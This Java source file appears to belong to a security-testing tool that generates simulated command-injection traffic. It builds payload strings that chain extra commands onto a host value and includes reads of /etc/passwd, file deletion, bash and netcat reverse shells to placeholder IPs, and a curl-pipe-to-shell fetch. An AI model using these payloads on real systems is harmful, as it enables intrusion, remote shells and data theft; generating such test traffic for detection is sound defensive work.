package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.Pick;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Function;

/** Ending one shell command and beginning another. */
final class CommandInjection {

    static final List<AttackFamily> FAMILIES = List.of(
            family("command_unix", CommandInjection::unix),
            family("command_substitution", CommandInjection::substitution),
            family("command_windows", CommandInjection::windows),
            family("command_shell", CommandInjection::reverseShell).reservedForSimulation());

    private CommandInjection() {}

    private static AttackFamily family(String name, Function<SplittableRandom, String> payload) {
        return AttackFamily.of(name, ThreatType.COMMAND_INJECTION, payload);
    }

    private static String unix(SplittableRandom r) {
        return host(r) + Pick.one(r, "; ", " | ", " && ", " || ", ";", "|", "\n") + command(r);
    }

    private static String substitution(SplittableRandom r) {
        String command = command(r);
        return host(r) + Pick.one(r, "$(" + command + ")", "`" + command + "`", ";$(" + command + ")");
    }

    private static String windows(SplittableRandom r) {
        return host(r)
                + Pick.one(r, " & ", " && ", " | ")
                + Pick.one(
                        r,
                        "type C:\\windows\\win.ini",
                        "dir C:\\",
                        "net user",
                        "ipconfig /all",
                        "powershell -c whoami",
                        "cmd.exe /c whoami");
    }

    private static String reverseShell(SplittableRandom r) {
        return host(r) + "; "
                + Pick.one(
                        r,
                        "bash -i >& /dev/tcp/198.51.100." + Pick.number(r, 1, 250) + "/4444 0>&1",
                        "nc -e /bin/sh 198.51.100." + Pick.number(r, 1, 250) + " 4444",
                        "curl http://" + Pick.letters(r, 6) + ".example/x.sh | sh");
    }

    private static String command(SplittableRandom r) {
        return Pick.one(
                r,
                "cat /etc/passwd",
                "id",
                "whoami",
                "uname -a",
                "ls -la /",
                "ping -c " + Pick.number(r, 1, 9) + " 198.51.100.7",
                "wget http://" + Pick.letters(r, 6) + ".example/a",
                "sleep " + Pick.number(r, 3, 20),
                "rm -rf /tmp/" + Pick.letters(r, 4));
    }

    private static String host(SplittableRandom r) {
        return Pick.one(r, "127.0.0.1", "example.com", "report", Integer.toString(Pick.number(r, 1, 999)));
    }
}
